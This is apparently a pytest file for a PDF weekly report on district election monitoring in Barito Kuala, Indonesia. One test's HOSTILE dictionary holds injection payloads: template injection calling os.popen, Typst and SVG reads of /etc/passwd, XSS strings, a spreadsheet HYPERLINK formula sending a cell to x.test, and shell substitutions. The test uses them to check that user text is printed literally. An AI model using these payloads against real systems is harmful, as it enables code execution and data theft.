"""The weekly report as its readers meet it: the text of the PDF."""

import re
from dataclasses import replace
from datetime import date

import pytest
from hypothesis import HealthCheck, given, settings

from reports import printable
from reports.government import facts, figures, letter, pdf, rows
from reports.government.facts import Content, Polling, Status
from rules import proofs
from rules.indonesian import number, percent
from rules.issues import Category
from rules.policy import Severity
from tests.reports import reading, samples
from tests.reports.samples import HEADER, district, owed, problem, received, waived, week

HOSTILE = {
    "B019": "{{7*7}}",
    "B020": "{{ config }}",
    "B021": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "B022": "{% for x in range(10**9) %}{% endfor %}",
    "B024": "{{",
    "a file": '#read("/etc/passwd")',
    "typst": '#eval("1+1") $x^2$ @foo <label> *b* _i_ `r` = judul \\ // /* -- ~ \'a\' "b"',
    "B031": "<script>alert(1)</script>",
    "B033": '"><svg onload=alert(1)>',
    "svg": "]]></text><image href='file:///etc/passwd'/>",
    "B050": '=HYPERLINK("http://x.test/?"&A1,"klik")',
    "shell": "%s %(x)s ${HOME} $(id) `id`",
}


def read(some: facts.Weekly) -> str:
    return reading.text(made(some))


def made(some):
    return pdf.pdf(letter.document(some), {})


def test_the_letter_is_a_draft_without_number_date_and_name():
    shown = reading.pages(made(week()))

    assert all("DRAF" in page for page in shown)
    assert re.search(r"Nomor : \.{10,} Sifat : Biasa Lampiran : 1 \(satu\) berkas Hal : Laporan", shown[0])
    assert re.search(r"Marabahan, \.{10,} 2024", shown[0])
    assert re.search(r"Pj\. BUPATI BARITO KUALA, \(\.{10,}\) Tembusan:", " ".join(shown))


def test_the_letter_says_from_whom_to_whom_and_about_which_days():
    shown = read(week())

    for part in (
        "BUPATI BARITO KUALA Marabahan",
        "(periode 5 s.d. 11 Februari 2024)",
        "Yth. Gubernur Kalimantan Selatan c.q. Kepala Badan Kesatuan Bangsa dan Politik di – Banjarbaru",
        "1.090 TPS dan 234.988 pemilih",
        "28 November 2023 s.d. 10 Februari 2024 telah berakhir",
        "2. Arsip.",
    ):
        assert part in shown


def test_every_page_says_how_far_the_data_reach_and_which_report_it_is():
    some = week()

    shown = reading.pages(made(some))

    for n, page in enumerate(shown, 1):
        assert "data sampai dengan 12 Februari 2024 pukul 20.00 WITA" in page
        assert proofs.code(facts.digest(some)) in page
        assert f"halaman {n} dari {len(shown)}" in page


def test_every_missing_district_is_named_with_report_and_due_time():
    some = week(district(1, received("R-0001")), district(2, owed("R-0805", 5)), district(13, owed("R-0813", 9)))

    shown = read(some)

    assert "2 laporan dari 2 kecamatan berikut belum kami terima." in shown
    assert "Tamban Tim DESK 1 1 Laporan harian: R-0805 (batas 5 Februari 2024 pukul 15.00 WITA)" in shown
    assert "Mekarsari Tim DESK 7 1 Laporan harian: R-0813 (batas 9 Februari 2024 pukul 15.00 WITA)" in shown
    assert "lalai" not in shown


def test_many_missing_reports_are_counted_by_district_and_listed_in_an_annex():
    some = week(*(district(n, *(owed(f"R-{n:02}{d:02}", d) for d in range(5, 12))) for n in range(1, 18)))

    body, annex = read(some).split("Lampiran II. Laporan yang belum diterima")

    assert "119 laporan dari 17 kecamatan berikut belum kami terima." in body
    for name in samples.NAMES:
        assert re.search(rf"\d+ {name} Tim DESK \d 7 ", body)
    assert all(f"R-{n:02}{d:02}" in annex for n in range(1, 18) for d in range(5, 12))


def test_an_annex_is_counted_after_those_that_there_are():
    late = tuple(district(n, *(owed(f"R-{n:02}{d:02}", d) for d in range(5, 12))) for n in range(1, 18))
    many = tuple(problem(f"P-{n:04}") for n in range(1, 12))

    few, full = read(week(*late)), read(week(*late, problems=many))

    assert "masing-masing pada Lampiran II." in few
    assert "masing-masing pada Lampiran III." in full
    assert "Lampiran III. Laporan yang belum diterima" in full


def test_when_nothing_is_missing_it_says_nihil():
    assert "V. Kecamatan yang belum melapor Nihil." in read(week())


def test_a_week_without_obligations_and_problems_says_nihil():
    shown = read(week(*(district(n) for n in range(1, 18))))

    assert "Pada periode ini tidak ada laporan kecamatan yang jatuh tempo." in shown
    assert "IV. Permasalahan dan tindak lanjut Nihil." in shown
    assert "Tidak ada laporan yang jatuh tempo pada periode ini." in shown


def test_the_share_received_is_of_all_that_was_owed():
    some = week(district(1, *(received(f"R-{n}") for n in range(6)), waived("R-8", "banjir"), owed("R-9")))

    shown = read(some)

    until = "sampai dengan 12 Februari 2024 pukul 20.00 WITA"
    assert f"Dari 8 laporan kecamatan yang jatuh tempo pada periode ini, {until} diterima 6 (75,0%): " in shown
    assert "Selebihnya 1 dikecualikan dan 1 belum diterima." in shown
    assert "R-8 Laporan harian, Kec. Tabunganen, 5 Februari 2024 pukul 15.00 WITA: banjir" in shown


@given(samples.weeks())
@settings(deadline=None)
def test_the_district_table_prints_the_figures(some):
    table = rows.districts(some)
    told = figures.printed(some)

    columns = ("owed", "received", "filled", "nil", "partial", "late", "waived", "missing")
    for row, place in zip(table.rows, some.districts, strict=True):
        name = f"district.{place.code}"
        assert [str(cell) for cell in row[3:-1]] == [number(told[f"{name}.{column}"]) for column in columns]
        assert [cell.value for cell in row[3:-1]] == [told[f"{name}.{column}"] for column in columns]
        assert str(row[-1]) == (percent(told[f"{name}.received"], told[f"{name}.owed"]) or "–")
    assert [str(cell) for cell in table.foot[1:-1]] == [number(told[f"reports.{column}"]) for column in columns]


@given(samples.weeks())
@settings(deadline=None, max_examples=12, suppress_health_check=[HealthCheck.too_slow])
def test_any_week_with_any_texts_becomes_a_document(some):
    assert made(some).startswith(b"%PDF-")


def test_the_annex_is_printed_as_counted():
    contents = (Content.FILLED, Content.FILLED, Content.NIL, Content.PARTIAL)
    some = week(district(5, *(received(f"R-{n}", c, late=n == 0) for n, c in enumerate(contents)), owed("R-7")))

    shown = read(some)

    assert "1 Alalak Tim DESK 3 5 4 2 1 1 1 0 1 80,0%" in shown
    assert "Jumlah 5 4 2 1 1 1 0 1 80,0%" in shown


def test_a_problem_is_told_with_place_date_actions_office_and_status():
    solved = problem(status=Status.RESOLVED, outcome="Kotak diganti")

    shown = reading.letters(read(week(problems=(solved,))))

    for part in (
        "Kec. Tamban",
        "6 Februari 2024",
        "Kotak suara lembap",
        "P-0001 · Logistik · rawan",
        "7 Februari 2024: Dipindahkan ke balai kecamatan",
        "Hasil: Kotak diganti",
        "Camat Tamban selesai",
    ):
        assert reading.letters(part) in shown


def test_of_many_problems_the_letter_shows_the_gravest_and_the_annex_all():
    grave = problem("P-0450", severity=Severity.HIGH, title="Jembatan putus")
    many = tuple(problem(f"P-{n:04}", status=Status.RESOLVED) for n in range(1, 300))
    some = week(problems=(*many, grave))

    body, annex = read(some).split("Lampiran II. Seluruh permasalahan")

    assert "Ditampilkan 10 dari 300 permasalahan: yang belum selesai lebih dahulu, menurut tingkat" in " ".join(
        body.split()
    )
    assert body.index("P-0450") < body.index("P-0001")
    assert all(f"P-{n:04}" in annex for n in [*range(1, 300), 450])


def test_what_is_not_known_of_polling_is_not_printed():
    shown = read(replace(week(), polling=Polling(None, 234988, "contoh.example")))

    assert "dengan 234.988 pemilih terdaftar (sumber: contoh.example)" in shown
    assert "None" not in shown
    assert " TPS" not in read(replace(week(), polling=None)).replace("Lokasi TPS", "")


def test_a_correction_says_which_it_is():
    shown = read(replace(week(), header=replace(HEADER, version=3)))

    assert "(periode 5 s.d. 11 Februari 2024) Ralat ke-2" in shown
    assert "ralat ke-2 · data sampai dengan" in shown


@pytest.mark.parametrize(
    ("signatory", "head", "signed"),
    [
        ("Pj. Bupati Barito Kuala", "BUPATI BARITO KUALA", ["Pj. BUPATI BARITO KUALA,"]),
        ("Bupati Barito Kuala", "BUPATI BARITO KUALA", ["BUPATI BARITO KUALA,"]),
        (
            "a.n. Bupati Barito Kuala\nSekretaris Daerah,",
            "BUPATI BARITO KUALA",
            ["a.n. BUPATI BARITO KUALA", "SEKRETARIS DAERAH,"],
        ),
    ],
)
def test_the_signing_office_is_named_in_its_form(signatory, head, signed):
    shown = letter.document(replace(week(), header=replace(HEADER, signatory=signatory)))

    assert shown.letterhead == (head,)
    assert list(shown.signature) == signed


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_text_of_users_is_shown_as_typed_wherever_it_stands(text):
    told = problem(title=text, office=text, outcome=text, category=text, code="P-9")
    some = replace(
        week(
            replace(district(2, replace(owed("R-1"), duty=text), waived("R-2", text)), name=text, team=text),
            problems=(told,),
            advice=(text,),
        ),
        legal_bases=(text,),
        header=replace(HEADER, copies=(text,), subject=text, signatory=text, nature=text, seat=text),
    )

    shown = reading.letters(read(some))

    assert shown.count(reading.letters(text)) >= 10
    assert "root:x:0" not in shown


def test_every_sign_that_counts_as_drawn_is_drawn_in_both_weights():
    signs = [chr(n) for first, last in printable.DRAWN for n in range(first, last + 1)]
    rows = ["".join(signs[n : n + 60]).replace("\n", " ") for n in range(0, len(signs), 60)]
    bold = HEADER.letterhead + tuple(rows)

    assert made(replace(week(advice=tuple(rows)), header=replace(HEADER, letterhead=bold)))


def test_sixty_districts_fill_their_pages():
    some = week()
    places = tuple(
        replace(district(1, owed("R-1"), received("R-2")), code=f"63.{n:02}.01", name=f"Distrik {n}") for n in range(60)
    )

    shown = read(replace(some, districts=places))

    assert all(f"Distrik {n} Tim DESK" in shown for n in range(60))


def test_categories_beyond_the_seven_are_shown_by_their_own_name():
    told = [problem(category=Category.SECURITY), problem("P-0002", category="Disabilitas", opened_on=date(2024, 2, 1))]

    shown = read(week(problems=tuple(told)))

    assert "P-0002 · Disabilitas" in shown
    assert "P-0001 · Keamanan" in shown
